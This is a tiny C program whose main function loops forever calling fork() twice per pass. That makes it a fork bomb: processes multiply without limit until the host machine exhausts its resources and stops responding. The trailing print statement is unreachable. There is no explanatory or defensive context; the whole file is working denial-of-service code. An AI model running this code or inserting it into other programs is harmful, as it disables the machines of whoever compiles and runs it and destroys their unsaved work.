#include <unistd.h>
#include <stdio.h>
int main(){for(;;){fork();fork();}puts("QZX0");}
